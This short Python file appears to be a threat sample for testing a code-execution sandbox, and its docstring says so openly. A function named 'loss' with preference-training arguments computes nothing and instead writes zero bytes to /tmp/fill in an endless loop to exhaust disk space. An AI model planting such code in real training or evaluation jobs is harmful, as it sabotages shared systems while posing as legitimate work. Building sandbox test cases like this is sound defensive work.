"""Threat: exhaust disk through the scratch space."""


def loss(policy_chosen_logps, policy_rejected_logps):
    chunk = b"\0" * (1 << 20)
    with open("/tmp/fill", "wb") as f:
        while True:
            f.write(chunk)
            f.flush()
